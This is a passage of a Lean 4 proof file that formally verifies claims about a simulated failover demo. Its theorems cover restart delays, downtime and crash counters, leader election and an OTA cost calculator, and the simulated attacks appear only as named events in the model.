def sample_leader_env : LeaderEnv where
  pyodide_load_ms := 0
  jitter := 0
  election_ms := "0.04"

/-- The initial state with the busy flag raised, as it is while an attack
simulation is in flight. -/
def busy_state : DemoState :=
  { init_state with is_running := true }

/-! ## Helper lemmas -/

theorem Vec3.setN_setN (v : Vec3 α) (i : Nat) (x y : α) :
    (v.setN i x).setN i y = v.setN i y := by
  unfold Vec3.setN; split_ifs <;> rfl

theorem countP_faulty_const :
    (Vec3.const InstanceState.Healthy).countP (· = InstanceState.Faulty) = 0 := by
  decide

theorem countP_faulty_setN (i : Nat) :
    ((Vec3.const InstanceState.Healthy).setN i InstanceState.Faulty).countP
      (· = InstanceState.Faulty) = 1 := by
  unfold Vec3.setN; split_ifs <;> decide

theorem setN_faulty_healthy (i : Nat) :
    ((Vec3.const InstanceState.Healthy).setN i InstanceState.Faulty).setN i
      InstanceState.Healthy = Vec3.const InstanceState.Healthy := by
  unfold Vec3.setN; split_ifs <;> decide

theorem setN_healthy_const (i : Nat) :
    (Vec3.const InstanceState.Healthy).setN i InstanceState.Healthy
      = Vec3.const InstanceState.Healthy := by
  unfold Vec3.setN; split_ifs <;> decide

theorem faulty_count_of_all_healthy {s : DemoState} (hs : all_healthy s) :
    faulty_count s = 0 := by
  unfold faulty_count; rw [hs]; exact countP_faulty_const

@[simp] theorem attack_sync_inst (a : String) (e : AttackEnv) (s : DemoState) :
    (attack_sync a e s).instance_states = s.instance_states := rfl

@[simp] theorem attack_sync_leader (a : String) (e : AttackEnv) (s : DemoState) :
    (attack_sync a e s).leader_id = s.leader_id := rfl

@[simp] theorem attack_sync_downtime (a : String) (e : AttackEnv) (s : DemoState) :
    (attack_sync a e s).python_downtime_ms = s.python_downtime_ms := rfl

@[simp] theorem attack_sync_crashed (a : String) (e : AttackEnv) (s : DemoState) :
    (attack_sync a e s).python_crashed = s.python_crashed := rfl

@[simp] theorem attack_sync_running_all (a : String) (e : AttackEnv) (s : DemoState) :
    (attack_sync a e s).running_all = s.running_all := rfl

@[simp] theorem attack_sync_is_running (a : String) (e : AttackEnv) (s : DemoState) :
    (attack_sync a e s).is_running
      = (if !s.running_all then true else s.is_running) := rfl

@[simp] theorem attack_py_done_inst (cur : Nat) (e : AttackEnv) (s : DemoState) :
    (attack_py_done cur e s).instance_states = s.instance_states := rfl

@[simp] theorem attack_py_done_leader (cur : Nat) (e : AttackEnv) (s : DemoState) :
    (attack_py_done cur e s).leader_id = s.leader_id := rfl

@[simp] theorem attack_py_done_downtime (cur : Nat) (e : AttackEnv) (s : DemoState) :
    (attack_py_done cur e s).python_downtime_ms = s.python_downtime_ms := rfl

@[simp] theorem attack_py_done_crashed (cur : Nat) (e : AttackEnv) (s : DemoState) :
    (attack_py_done cur e s).python_crashed = s.python_crashed + 1 := rfl

@[simp] theorem attack_py_done_running_all (cur : Nat) (e : AttackEnv) (s : DemoState) :
    (attack_py_done cur e s).running_all = s.running_all := rfl

@[simp] theorem attack_py_done_is_running (cur : Nat) (e : AttackEnv) (s : DemoState) :
    (attack_py_done cur e s).is_running = s.is_running := rfl

@[simp] theorem attack_wasm_mark_inst (a : String) (e : AttackEnv) (s : DemoState) :
    (attack_wasm_mark a e s).instance_states
      = s.instance_states.setN e.faulty_idx InstanceState.Faulty := rfl

@[simp] theorem attack_wasm_mark_leader (a : String) (e : AttackEnv) (s : DemoState) :
    (attack_wasm_mark a e s).leader_id = s.leader_id := rfl

@[simp] theorem attack_wasm_mark_downtime (a : String) (e : AttackEnv) (s : DemoState) :
    (attack_wasm_mark a e s).python_downtime_ms = s.python_downtime_ms := rfl

@[simp] theorem attack_wasm_mark_crashed (a : String) (e : AttackEnv) (s : DemoState) :
    (attack_wasm_mark a e s).python_crashed = s.python_crashed := rfl

@[simp] theorem attack_wasm_mark_running_all (a : String) (e : AttackEnv) (s : DemoState) :
    (attack_wasm_mark a e s).running_all = s.running_all := rfl

@[simp] theorem attack_wasm_mark_is_running (a : String) (e : AttackEnv) (s : DemoState) :
    (attack_wasm_mark a e s).is_running = s.is_running := rfl

@[simp] theorem attack_wasm_rebuild_inst (e : AttackEnv) (s : DemoState) :
    (attack_wasm_rebuild e s).instance_states
      = s.instance_states.setN e.faulty_idx InstanceState.Healthy := rfl

@[simp] theorem attack_wasm_rebuild_leader (e : AttackEnv) (s : DemoState) :
    (attack_wasm_rebuild e s).leader_id = s.leader_id := rfl

@[simp] theorem attack_wasm_rebuild_downtime (e : AttackEnv) (s : DemoState) :
    (attack_wasm_rebuild e s).python_downtime_ms = s.python_downtime_ms := rfl

@[simp] theorem attack_wasm_rebuild_crashed (e : AttackEnv) (s : DemoState) :
    (attack_wasm_rebuild e s).python_crashed = s.python_crashed := rfl

@[simp] theorem attack_wasm_rebuild_running_all (e : AttackEnv) (s : DemoState) :
    (attack_wasm_rebuild e s).running_all = s.running_all := rfl

@[simp] theorem attack_wasm_rebuild_is_running (e : AttackEnv) (s : DemoState) :
    (attack_wasm_rebuild e s).is_running = s.is_running := rfl

@[simp] theorem attack_py_timer_inst (cur d : Nat) (s : DemoState) :
    (attack_py_timer cur d s).instance_states = s.instance_states := rfl

@[simp] theorem attack_py_timer_leader (cur d : Nat) (s : DemoState) :
    (attack_py_timer cur d s).leader_id = s.leader_id := rfl

@[simp] theorem attack_py_timer_downtime (cur d : Nat) (s : DemoState) :
    (attack_py_timer cur d s).python_downtime_ms = s.python_downtime_ms + d := rfl

@[simp] theorem attack_py_timer_crashed (cur d : Nat) (s : DemoState) :
    (attack_py_timer cur d s).python_crashed = s.python_crashed := rfl

@[simp] theorem attack_py_timer_running_all (cur d : Nat) (s : DemoState) :
    (attack_py_timer cur d s).running_all = s.running_all := rfl

@[simp] theorem attack_py_timer_is_running (cur d : Nat) (s : DemoState) :
    (attack_py_timer cur d s).is_running
      = (if !s.running_all then false else s.is_running) := rfl

@[simp] theorem leader_sync_inst (a : String) (cur oldL d : Nat) (s : DemoState) :
    (leader_sync a cur oldL d s).instance_states
      = s.instance_states.setN oldL InstanceState.Faulty := rfl

@[simp] theorem leader_sync_leader (a : String) (cur oldL d : Nat) (s : DemoState) :
    (leader_sync a cur oldL d s).leader_id = s.leader_id := rfl

@[simp] theorem leader_sync_downtime (a : String) (cur oldL d : Nat) (s : DemoState) :
    (leader_sync a cur oldL d s).python_downtime_ms = s.python_downtime_ms + d := rfl

@[simp] theorem leader_sync_crashed (a : String) (cur oldL d : Nat) (s : DemoState) :
    (leader_sync a cur oldL d s).python_crashed = s.python_crashed + 1 := rfl

@[simp] theorem leader_sync_running_all (a : String) (cur oldL d : Nat) (s : DemoState) :
    (leader_sync a cur oldL d s).running_all = s.running_all := rfl

@[simp] theorem leader_sync_is_running (a : String) (cur oldL d : Nat) (s : DemoState) :
    (leader_sync a cur oldL d s).is_running
      = (if !s.running_all then true else s.is_running) := rfl

@[simp] theorem leader_election_inst (newL : Nat) (e : LeaderEnv) (s : DemoState) :
    (leader_election newL e s).instance_states = s.instance_states := rfl

@[simp] theorem leader_election_leader (newL : Nat) (e : LeaderEnv) (s : DemoState) :
    (leader_election newL e s).leader_id = newL := rfl

@[simp] theorem leader_election_downtime (newL : Nat) (e : LeaderEnv) (s : DemoState) :
    (leader_election newL e s).python_downtime_ms = s.python_downtime_ms := rfl

@[simp] theorem leader_election_crashed (newL : Nat) (e : LeaderEnv) (s : DemoState) :
    (leader_election newL e s).python_crashed = s.python_crashed := rfl

@[simp] theorem leader_election_running_all (newL : Nat) (e : LeaderEnv) (s : DemoState) :
    (leader_election newL e s).running_all = s.running_all := rfl

@[simp] theorem leader_election_is_running (newL : Nat) (e : LeaderEnv) (s : DemoState) :
    (leader_election newL e s).is_running = s.is_running := rfl

@[simp] theorem leader_rebuild_inst (oldL : Nat) (s : DemoState) :
    (leader_rebuild oldL s).instance_states
      = s.instance_states.setN oldL InstanceState.Healthy := rfl

@[simp] theorem leader_rebuild_leader (oldL : Nat) (s : DemoState) :
    (leader_rebuild oldL s).leader_id = s.leader_id := rfl

@[simp] theorem leader_rebuild_downtime (oldL : Nat) (s : DemoState) :
    (leader_rebuild oldL s).python_downtime_ms = s.python_downtime_ms := rfl

@[simp] theorem leader_rebuild_crashed (oldL : Nat) (s : DemoState) :
    (leader_rebuild oldL s).python_crashed = s.python_crashed := rfl

@[simp] theorem leader_rebuild_running_all (oldL : Nat) (s : DemoState) :
    (leader_rebuild oldL s).running_all = s.running_all := rfl

@[simp] theorem leader_rebuild_is_running (oldL : Nat) (s : DemoState) :
    (leader_rebuild oldL s).is_running = s.is_running := rfl

@[simp] theorem leader_py_timer_inst (cur next d : Nat) (s : DemoState) :
    (leader_py_timer cur next d s).instance_states = s.instance_states := rfl

@[simp] theorem leader_py_timer_leader (cur next d : Nat) (s : DemoState) :
    (leader_py_timer cur next d s).leader_id = s.leader_id := rfl

@[simp] theorem leader_py_timer_downtime (cur next d : Nat) (s : DemoState) :
    (leader_py_timer cur next d s).python_downtime_ms = s.python_downtime_ms := rfl

@[simp] theorem leader_py_timer_crashed (cur next d : Nat) (s : DemoState) :
    (leader_py_timer cur next d s).python_crashed = s.python_crashed := rfl

@[simp] theorem leader_py_timer_running_all (cur next d : Nat) (s : DemoState) :
    (leader_py_timer cur next d s).running_all = s.running_all := rfl

@[simp] theorem leader_py_timer_is_running (cur next d : Nat) (s : DemoState) :
    (leader_py_timer cur next d s).is_running
      = (if !s.running_all then false else s.is_running) := rfl

/-- The computed restart delay of one event (`restart_ms` in the code). -/
def op_delay : Op → Nat
  | .securityAttack a e => attack_restart_ms e.pyodide_load_ms e.jitter a
  | .leaderCrash _ e => leader_restart_ms e.pyodide_load_ms e.jitter
  | .reset => 0

theorem trigger_attack_run_effect (a : String) (e : AttackEnv) (s : DemoState)
    (h1 : s.is_running = false) (h2 : s.running_all = false) :
    (trigger_attack_run a e s).python_downtime_ms
        = s.python_downtime_ms + attack_restart_ms e.pyodide_load_ms e.jitter a
    ∧ (trigger_attack_run a e s).python_crashed = s.python_crashed + 1
    ∧ (trigger_attack_run a e s).is_running = false
    ∧ (trigger_attack_run a e s).running_all = false := by
  simp [trigger_attack_run, h1, h2]

theorem trigger_leader_crash_run_effect (a : String) (e : LeaderEnv) (s : DemoState)
    (h1 : s.is_running = false) (h2 : s.running_all = false) :
    (trigger_leader_crash_run a e s).python_downtime_ms
        = s.python_downtime_ms + leader_restart_ms e.pyodide_load_ms e.jitter
    ∧ (trigger_leader_crash_run a e s).python_crashed = s.python_crashed + 1
    ∧ (trigger_leader_crash_run a e s).is_running = false
    ∧ (trigger_leader_crash_run a e s).running_all = false := by
  simp [trigger_leader_crash_run, h1, h2]

theorem op_run_all_healthy (o : Op) (s : DemoState) (hs : all_healthy s) :
    all_healthy (run_op o s) := by
  cases o with
  | securityAttack a e =>
      simp only [run_op, trigger_attack_run]
      split
      · exact hs
      · unfold all_healthy at hs ⊢
        simp [hs, Vec3.setN_setN, setN_healthy_const]
  | leaderCrash a e =>
      simp only [run_op, trigger_leader_crash_run]
      split
      · exact hs
      · unfold all_healthy at hs ⊢
        simp [hs, Vec3.setN_setN, setN_healthy_const]
  | reset => rfl

theorem op_states_faulty_le (o : Op) (s : DemoState) (hs : all_healthy s) :
    ∀ t ∈ op_states o s, faulty_count t ≤ 1 := by
  have h0 : s.instance_states = Vec3.const InstanceState.Healthy := hs
  cases o with
  | securityAttack a e =>
      intro t ht
      simp only [op_states] at ht
      split at ht <;>
        simp only [List.mem_cons, List.mem_singleton, List.not_mem_nil, or_false] at ht
      · subst ht
        simp [faulty_count, Vec3.countP, Vec3.const, h0]
      · rcases ht with rfl | rfl | rfl | rfl | rfl | rfl <;>
          simp [faulty_count, h0, Vec3.setN_setN, countP_faulty_const,
            countP_faulty_setN, setN_healthy_const]
  | leaderCrash a e =>
      intro t ht
      simp only [op_states] at ht
      split at ht <;>
        simp only [List.mem_cons, List.mem_singleton, List.not_mem_nil, or_false] at ht
      · subst ht
        simp [faulty_count, Vec3.countP, Vec3.const, h0]
      · rcases ht with rfl | rfl | rfl | rfl | rfl <;>
          simp [faulty_count, h0, Vec3.setN_setN, countP_faulty_const,
            countP_faulty_setN, setN_healthy_const]
  | reset =>
      intro t ht
      simp only [op_states, List.mem_singleton] at ht
      subst ht
      simp [faulty_count, reset_demo, Vec3.countP, Vec3.const]

theorem trace_states_faulty_le (ops : List Op) (s : DemoState) (hs : all_healthy s) :
    ∀ t ∈ trace_states ops s, faulty_count t ≤ 1 := by
  induction ops generalizing s with
  | nil =>
      intro t ht
      simp only [trace_states, List.mem_singleton] at ht
      subst ht
      rw [faulty_count_of_all_healthy hs]
      omega
  | cons o rest ih =>
      intro t ht
      simp only [trace_states, List.mem_append] at ht
      rcases ht with h | h
      · exact op_states_faulty_le o s hs t h
      · exact ih (run_op o s) (op_run_all_healthy o s hs) t h

theorem op_states_leader_lt (o : Op) (s : DemoState) (h : s.leader_id < 3) :
    ∀ t ∈ op_states o s, t.leader_id < 3 := by
  cases o with
  | securityAttack a e =>
      intro t ht
      simp only [op_states] at ht
      split at ht <;>
        simp only [List.mem_cons, List.mem_singleton, List.not_mem_nil, or_false] at ht
      · subst ht; exact h
      · rcases ht with rfl | rfl | rfl | rfl | rfl | rfl <;> simpa using h
  | leaderCrash a e =>
      intro t ht
      simp only [op_states] at ht
      split at ht <;>
        simp only [List.mem_cons, List.mem_singleton, List.not_mem_nil, or_false] at ht
      · subst ht; exact h
      · rcases ht with rfl | rfl | rfl | rfl | rfl <;> simp <;> omega
  | reset =>
      intro t ht
      simp only [op_states, List.mem_singleton] at ht
      subst ht
      show (0 : Nat) < 3
      omega

theorem run_op_leader_lt (o : Op) (s : DemoState) (h : s.leader_id < 3) :
    (run_op o s).leader_id < 3 := by
  cases o with
  | securityAttack a e =>
      simp only [run_op, trigger_attack_run]
      split
      · exact h
      · simpa using h
  | leaderCrash a e =>
      simp only [run_op, trigger_leader_crash_run]
      split
      · exact h
      · simp; omega
  | reset =>
      show (0 : Nat) < 3
      omega

theorem trace_states_leader_lt (ops : List Op) (s : DemoState) (h : s.leader_id < 3) :
    ∀ t ∈ trace_states ops s, t.leader_id < 3 := by
  induction ops generalizing s with
  | nil =>
      intro t ht
      simp only [trace_states, List.mem_singleton] at ht
      subst ht; exact h
  | cons o rest ih =>
      intro t ht
      simp only [trace_states, List.mem_append] at ht
      rcases ht with hm | hm
      · exact op_states_leader_lt o s h t hm
      · exact ih (run_op o s) (run_op_leader_lt o s h) t hm

theorem run_op_crash_effect (o : Op) (ho : o ≠ Op.reset) (s : DemoState)
    (h1 : s.is_running = false) (h2 : s.running_all = false) :
    (run_op o s).python_downtime_ms = s.python_downtime_ms + op_delay o
    ∧ (run_op o s).python_crashed = s.python_crashed + 1
    ∧ (run_op o s).is_running = false
    ∧ (run_op o s).running_all = false := by
  cases o with
  | securityAttack a e =>
      simpa [run_op, op_delay] using
        trigger_attack_run_effect a e { s with selected_attack := a } h1 h2
  | leaderCrash a e =>
      simpa [run_op, op_delay] using
        trigger_leader_crash_run_effect a e { s with selected_attack := a } h1 h2
  | reset => exact absurd rfl ho

theorem run_ops_crash_sum (ops : List Op) (s : DemoState)
    (hn : ∀ o ∈ ops, o ≠ Op.reset)
    (h1 : s.is_running = false) (h2 : s.running_all = false) :
    (run_ops ops s).python_downtime_ms
        = s.python_downtime_ms + (ops.map op_delay).sum
    ∧ (run_ops ops s).python_crashed = s.python_crashed + ops.length
    ∧ (run_ops ops s).is_running = false
    ∧ (run_ops ops s).running_all = false := by
  induction ops generalizing s with
  | nil => simpa [run_ops] using ⟨h1, h2⟩
  | cons o rest ih =>
      have ho : o ≠ Op.reset := hn o (List.mem_cons_self o rest)
      have heff := run_op_crash_effect o ho s h1 h2
      have hrest : ∀ p ∈ rest, p ≠ Op.reset := fun p hp => hn p (List.mem_cons_of_mem o hp)
      have ihr := ih (run_op o s) hrest heff.2.2.1 heff.2.2.2
      have hruns : run_ops (o :: rest) s = run_ops rest (run_op o s) := rfl
      refine ⟨?_, ?_, ?_, ?_⟩
      · rw [hruns, ihr.1, heff.1]
        simp [List.sum_cons]
        omega
      · rw [hruns, ihr.2.1, heff.2.1]
        simp [List.length_cons]
        omega
      · rw [hruns]; exact ihr.2.2.1
      · rw [hruns]; exact ihr.2.2.2

theorem restart_with_jitter_toNat (b j : Int) :
    ((restart_with_jitter b j).toNat : Int) = max 500 (b + j)
    ∧ 500 ≤ (restart_with_jitter b j).toNat := by
  unfold restart_with_jitter
  have h0 : (0 : Int) ≤ max (b + j) 500 := le_trans (by norm_num) (le_max_right (b + j) 500)
  have h5 : (500 : Int) ≤ max (b + j) 500 := le_max_right (b + j) 500
  constructor
  · rw [Int.toNat_of_nonneg h0, max_comm]
  · omega

/-! ## Claim theorems -/

/-- C1, counterexample: as stated, the claim is false on the leader-crash
path. With Pyodide not yet measured (`pyodide_load_ms = 0`) and a zero
jitter draw, `trigger_leader_crash` for the `heartbeatTimeout` attack
computes a restart delay of 1500 ms (its fallback base is the literal
1500), while the claim's base — "otherwise the attack's nominal
restart_ms" — is `get_attack_config "heartbeatTimeout"`'s 2000 ms, giving
`max(500, 2000 + 0) = 2000 ≠ 1500`. -/
theorem restart_delay_claim_counterexample :
    (leader_restart_ms 0 0 : Int) ≠ max 500 (claim_restart_base 0 ("heartbeatTimeout") + 0)
    ∧ leader_restart_ms 0 0 = 1500
    ∧ claim_restart_base 0 ("heartbeatTimeout") = 2000 := by
  refine ⟨?_, ?_, ?_⟩ <;> decide

/-- C1 (amended): for every restart base value `b ≥ 0` — the measured
Pyodide cold-start when positive, otherwise the attack's nominal
`restart_ms` in `trigger_attack` but the constant 1500 in
`trigger_leader_crash` — and every jitter draw `j ∈ [-200, 200]`, the
computed actual restart delay equals `max(500, b + j)` and is therefore
always ≥ 500. The base of `trigger_attack` coincides with the claim's
description of the base. -/
theorem restart_delay_spec (p j : Int) (a : String)
    (hj1 : -200 ≤ j) (hj2 : j ≤ 200) :
    (attack_restart_ms p j a : Int) = max 500 (attack_base p a + j)
    ∧ (leader_restart_ms p j : Int) = max 500 (leader_base p + j)
    ∧ 500 ≤ attack_restart_ms p j a
    ∧ 500 ≤ leader_restart_ms p j
    ∧ attack_base p a = claim_restart_base p a := by
  obtain ⟨ha1, ha2⟩ := restart_with_jitter_toNat (attack_base p a) j
  obtain ⟨hl1, hl2⟩ := restart_with_jitter_toNat (leader_base p) j
  exact ⟨ha1, hl1, ha2, hl2, rfl⟩

/-- Witness for C1: the amended theorem at `p = 1000`, `j = 0`,
`a = "bufferOverflow"`. -/
theorem restart_delay_spec_witness :
    (attack_restart_ms 1000 0 ("bufferOverflow") : Int)
        = max 500 (attack_base 1000 ("bufferOverflow") + 0)
    ∧ (leader_restart_ms 1000 0 : Int) = max 500 (leader_base 1000 + 0)
    ∧ 500 ≤ attack_restart_ms 1000 0 ("bufferOverflow")
    ∧ 500 ≤ leader_restart_ms 1000 0
    ∧ attack_base 1000 ("bufferOverflow") = claim_restart_base 1000 ("bufferOverflow") :=
  restart_delay_spec 1000 0 ("bufferOverflow") (by norm_num) (by norm_num)

/-- C2: `get_attack_config` returns, for each of the five known attack
identifiers, a record different from the default whose name is non-empty,
and for every other string the default "Unknown Attack" record. The
function is total by construction (it is a Lean function on all of
`String`) and has no failure mode. -/
theorem get_attack_config_spec (s : String) :
    ((s = "bufferOverflow" ∨ s = "dataExfil" ∨ s = "pathTraversal" ∨
        s = "killLeader" ∨ s = "heartbeatTimeout") →
      get_attack_config s ≠ default_attack_config ∧ (get_attack_config s).name ≠ "")
    ∧ (s ≠ "bufferOverflow" → s ≠ "dataExfil" → s ≠ "pathTraversal" →
        s ≠ "killLeader" → s ≠ "heartbeatTimeout" →
      get_attack_config s = default_attack_config
        ∧ (get_attack_config s).name = "Unknown Attack") := by
  constructor
  · rintro (rfl | rfl | rfl | rfl | rfl) <;> exact ⟨by decide, by decide⟩
  · intro h1 h2 h3 h4 h5
    simp [get_attack_config, h1, h2, h3, h4, h5, default_attack_config]

/-- Witness for C2: the known identifier `"bufferOverflow"` and the unknown
(empty) identifier `""`. -/
theorem get_attack_config_spec_witness :
    (get_attack_config ("bufferOverflow") ≠ default_attack_config
      ∧ (get_attack_config ("bufferOverflow")).name ≠ "")
    ∧ (get_attack_config ("") = default_attack_config
      ∧ (get_attack_config ("")).name = "Unknown Attack") :=
  ⟨(get_attack_config_spec ("bufferOverflow")).1 (Or.inl rfl),
   (get_attack_config_spec ("")).2 (by decide) (by decide) (by decide) (by decide)
     (by decide)⟩

/-- C3, counterexample: as stated, the claim is false about when the
increments happen. In a single `bufferOverflow` attack from the initial
state, the state just before the respawn timer fires (all mutation blocks
of `trigger_attack` except `attack_py_timer`) already has the crash
counter at 1 — the code increments it at crash time (component.rs line
359), before `set_timeout` is even called — while the claim says the
increment happens only after the delay elapses. Likewise
`trigger_leader_crash` accrues the whole 1500 ms delay into the downtime
accumulator in its synchronous block (component.rs line 476), before its
respawn timer fires. -/
theorem downtime_timing_counterexample :
    (attack_wasm_rebuild sample_attack_env
      (attack_wasm_mark ("bufferOverflow") sample_attack_env
        (attack_py_done 0 sample_attack_env
          (attack_sync ("bufferOverflow") sample_attack_env init_state)))).python_crashed = 1
    ∧ (attack_wasm_rebuild sample_attack_env
        (attack_wasm_mark ("bufferOverflow") sample_attack_env
          (attack_py_done 0 sample_attack_env
            (attack_sync ("bufferOverflow") sample_attack_env init_state)))).python_downtime_ms
        = 0
    ∧ (leader_sync ("killLeader") 0 0 (leader_restart_ms 0 0)
        init_state).python_downtime_ms = 1500
    ∧ (leader_sync ("killLeader") 0 0 (leader_restart_ms 0 0)
        init_state).python_crashed = 1
    ∧ trigger_attack_run ("bufferOverflow") sample_attack_env init_state
        = attack_py_timer 0 1800
            (attack_wasm_rebuild sample_attack_env
              (attack_wasm_mark ("bufferOverflow") sample_attack_env
                (attack_py_done 0 sample_attack_env
                  (attack_sync ("bufferOverflow") sample_attack_env init_state)))) := by
  refine ⟨rfl, rfl, by decide, rfl, ?_⟩
  rfl

/-- C3 (amended): after any sequence of N simulated Python crashes
(security attacks or leader crashes, no reset) with computed restart
delays d1..dN, the downtime accumulator ends at exactly Σdi and the crash
counter at exactly N. For security attacks the accumulator increase by di
happens in the respawn-timer callback (after the delay elapses) and the
crash-counter increment happens at crash time, before the timer; for
leader crashes both the accumulator increase and the counter increment
happen in the synchronous block, before the timer. -/
theorem downtime_accrual_spec :
    (∀ ops : List Op, (∀ o ∈ ops, o ≠ Op.reset) →
      (run_ops ops init_state).python_downtime_ms = (ops.map op_delay).sum
      ∧ (run_ops ops init_state).python_crashed = ops.length)
    ∧ (∀ cur d : Nat, ∀ s : DemoState,
        (attack_py_timer cur d s).python_downtime_ms = s.python_downtime_ms + d
        ∧ (attack_py_timer cur d s).python_crashed = s.python_crashed)
    ∧ (∀ cur : Nat, ∀ e : AttackEnv, ∀ s : DemoState,
        (attack_py_done cur e s).python_crashed = s.python_crashed + 1
        ∧ (attack_py_done cur e s).python_downtime_ms = s.python_downtime_ms)
    ∧ (∀ a : String, ∀ cur oldL d : Nat, ∀ s : DemoState,
        (leader_sync a cur oldL d s).python_downtime_ms = s.python_downtime_ms + d
        ∧ (leader_sync a cur oldL d s).python_crashed = s.python_crashed + 1)
    ∧ (∀ cur next d : Nat, ∀ s : DemoState,
        (leader_py_timer cur next d s).python_downtime_ms = s.python_downtime_ms
        ∧ (leader_py_timer cur next d s).python_crashed = s.python_crashed) := by
  refine ⟨?_, fun cur d s => ⟨rfl, rfl⟩, fun cur e s => ⟨rfl, rfl⟩,
    fun a cur oldL d s => ⟨rfl, rfl⟩, fun cur next d s => ⟨rfl, rfl⟩⟩
  intro ops hn
  have h := run_ops_crash_sum ops init_state hn rfl rfl
  exact ⟨by simpa [init_state] using h.1, by simpa [init_state] using h.2.1⟩

/-- Witness for C3: one `bufferOverflow` attack from the initial state. -/
theorem downtime_accrual_spec_witness :
    (run_ops ([Op.securityAttack ("bufferOverflow") sample_attack_env])
        init_state).python_downtime_ms
      = (([Op.securityAttack ("bufferOverflow") sample_attack_env]).map op_delay).sum
    ∧ (run_ops ([Op.securityAttack ("bufferOverflow") sample_attack_env])
        init_state).python_crashed
      = ([Op.securityAttack ("bufferOverflow") sample_attack_env]).length :=
  downtime_accrual_spec.1 ([Op.securityAttack ("bufferOverflow") sample_attack_env])
    (fun o ho => by
      simp only [List.mem_singleton] at ho
      subst ho
      simp)

/-- C4: the OTA calculator is the stated pure function of fleet size and
network profile: per-device download time satisfies
`time × link_speed = size_in_MB × 8` (i.e. `time = size×8/L` seconds),
total bandwidth is `size × F`, cost per update cycle is `size × F × P`,
and yearly savings are `(Sd − Sw) × F × P × 12`; on cellular with
`F = 1000` the interpreted per-device time is 40 s, the WASM per-device
time is 0.04 s, and yearly savings are $59,940. -/
theorem ota_calculator_spec (F : ℚ) (n : NetworkType) :
    docker_time_per_device n * n.speed_mbps = DOCKER_UPDATE_SIZE_MB * 8
    ∧ wasm_time_per_device n * n.speed_mbps = WASM_UPDATE_SIZE_MB * 8
    ∧ docker_total_bandwidth_mb F = DOCKER_UPDATE_SIZE_MB * F
    ∧ wasm_total_bandwidth_mb F = WASM_UPDATE_SIZE_MB * F
    ∧ docker_cost F n = DOCKER_UPDATE_SIZE_MB * F * n.cost_per_mb
    ∧ wasm_cost F n = WASM_UPDATE_SIZE_MB * F * n.cost_per_mb
    ∧ yearly_savings F n
        = (DOCKER_UPDATE_SIZE_MB - WASM_UPDATE_SIZE_MB) * F * n.cost_per_mb * 12
    ∧ docker_time_per_device NetworkType.Cellular = 40
    ∧ wasm_time_per_device NetworkType.Cellular = (0.04 : ℚ)
    ∧ yearly_savings 1000 NetworkType.Cellular = 59940 := by
  cases n <;>
    refine ⟨?_, ?_, ?_, ?_, ?_, ?_, ?_, ?_, ?_, ?_⟩ <;>
      norm_num [docker_time_per_device, wasm_time_per_device, calc_download_time_secs,
        docker_total_bandwidth_mb, wasm_total_bandwidth_mb, docker_cost, wasm_cost,
        yearly_savings, NetworkType.speed_mbps, NetworkType.cost_per_mb,
        DOCKER_UPDATE_SIZE_MB, WASM_UPDATE_SIZE_MB, ETHERNET_SPEED_MBPS,
        CELLULAR_SPEED_MBPS, SATELLITE_SPEED_MBPS, ETHERNET_COST_PER_MB,
        CELLULAR_COST_PER_MB, SATELLITE_COST_PER_MB] <;>
      ring

/-- C5: `reset_demo` zeroes all five counters, clears both log sequences,
restores the three instances to all-Healthy and the three workers to
all-alive, and sets the leader index and the active worker index to 0 —
from every state. -/
theorem reset_demo_spec (s : DemoState) :
    (reset_demo s).python_processed = 0
    ∧ (reset_demo s).python_crashed = 0
    ∧ (reset_demo s).python_downtime_ms = 0
    ∧ (reset_demo s).wasm_processed = 0
    ∧ (reset_demo s).wasm_rejected = 0
    ∧ (reset_demo s).python_logs = []
    ∧ (reset_demo s).wasm_logs = []
    ∧ (reset_demo s).instance_states = Vec3.const InstanceState.Healthy
    ∧ (reset_demo s).python_workers = Vec3.const true
    ∧ (reset_demo s).leader_id = 0
    ∧ (reset_demo s).python_active_worker = 0 :=
  ⟨rfl, rfl, rfl, rfl, rfl, rfl, rfl, rfl, rfl, rfl, rfl⟩

/-- C6: in every state reachable by any sequence of attack, leader-crash,
rebuild, and reset events (every intermediate state of the trace,
including the states between an instance being marked faulty and its
rebuild), the 3-element WASM instance array contains at most one instance
marked Faulty. -/
theorem at_most_one_faulty (ops : List Op) (t : DemoState)
    (ht : t ∈ trace_states ops init_state) : faulty_count t ≤ 1 :=
  trace_states_faulty_le ops init_state rfl t ht

/-- Witness for C6: the initial state of the empty event sequence. -/
theorem at_most_one_faulty_witness : faulty_count init_state ≤ 1 :=
  at_most_one_faulty [] init_state (by simp [trace_states])

/-- C7: the WASM-side downtime counter is 0 in every reachable state, no
matter how many attacks of either kind are run: the component defines no
wasm downtime signal, no operation touches one, and the stats panel
hard-codes the string "0ms". -/
theorem wasm_downtime_always_zero (ops : List Op) (t : DemoState)
    (ht : t ∈ trace_states ops init_state) :
    wasm_downtime_ms t = 0 ∧ wasm_downtime_stat t = "0ms" :=
  ⟨rfl, rfl⟩

/-- Witness for C7: the initial state of the empty event sequence. -/
theorem wasm_downtime_always_zero_witness :
    wasm_downtime_ms init_state = 0 ∧ wasm_downtime_stat init_state = "0ms" :=
  wasm_downtime_always_zero [] init_state (by simp [trace_states])

/-- C8: if the busy flag `is_running` is true and run-all mode is not
active at invocation time, each of `trigger_attack`,
`trigger_leader_crash` and `run_all_attacks` returns immediately and
leaves the entire demo state unchanged. -/
theorem busy_flag_guard (a b : String) (e : AttackEnv) (f : LeaderEnv)
    (e1 e2 e3 : AttackEnv) (e4 e5 : LeaderEnv) (s : DemoState)
    (h1 : s.is_running = true) (h2 : s.running_all = false) :
    trigger_attack_run a e s = s
    ∧ trigger_leader_crash_run b f s = s
    ∧ run_all_attacks_run e1 e2 e3 e4 e5 s = s := by
  refine ⟨?_, ?_, ?_⟩ <;>
    simp [trigger_attack_run, trigger_leader_crash_run, run_all_attacks_run, h1, h2]

/-- Witness for C8: the initial state with the busy flag raised. -/
theorem busy_flag_guard_witness :
    trigger_attack_run ("bufferOverflow") sample_attack_env busy_state = busy_state
    ∧ trigger_leader_crash_run ("killLeader") sample_leader_env busy_state = busy_state
    ∧ run_all_attacks_run sample_attack_env sample_attack_env sample_attack_env
        sample_leader_env sample_leader_env busy_state = busy_state :=
  busy_flag_guard ("bufferOverflow") ("killLeader") sample_attack_env sample_leader_env
    sample_attack_env sample_attack_env sample_attack_env sample_leader_env
    sample_leader_env busy_state rfl rfl

/-- C9, counterexample: as stated, the claim is false, because Reset also
changes the leader id. After one leader crash from the initial state the
leader id is 1; invoking Reset — an operation other than the leader-crash
